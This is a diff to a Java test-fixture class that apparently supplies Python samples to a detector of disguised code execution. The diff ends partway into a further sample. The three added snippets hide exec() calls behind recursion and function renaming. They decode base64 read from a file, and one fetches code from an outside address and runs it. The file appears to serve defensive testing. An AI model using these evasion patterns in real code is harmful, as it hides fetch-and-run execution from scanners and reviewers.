@@ -9,6 +9,39 @@ final class PythonDetours {
 
   static List<Sample> all() {
     return List.of(
+        Sample.imported(
+            "a function hands itself what it decodes",
+            """
+            import base64
+            def f(x, n):
+                if n:
+                    f(base64.b64decode(open('/etc/sample').read()), 0)
+                else:
+                    exec(x)
+            f('', 1)
+            """),
+        Sample.imported(
+            "a function of the same name as the one that it hands it to",
+            """
+            import base64
+            def f(x):
+                exec(x)
+            old = f
+            def f(x):
+                old(base64.b64decode(open('/etc/sample').read()))
+            f('')
+            """),
+        Sample.imported(
+            "what calls itself with nothing gives what it fetched",
+            """
+            from urllib.request import urlopen
+            def g(u=None):
+                if u is None:
+                    return urlopen('http://192.0.2.7/a').read()
+                exec(g())
+            g('http://192.0.2.8/')
+            g('http://192.0.2.8/')
+            """),
         Sample.setup(
             "code in a text fetches a program and runs it",
             """
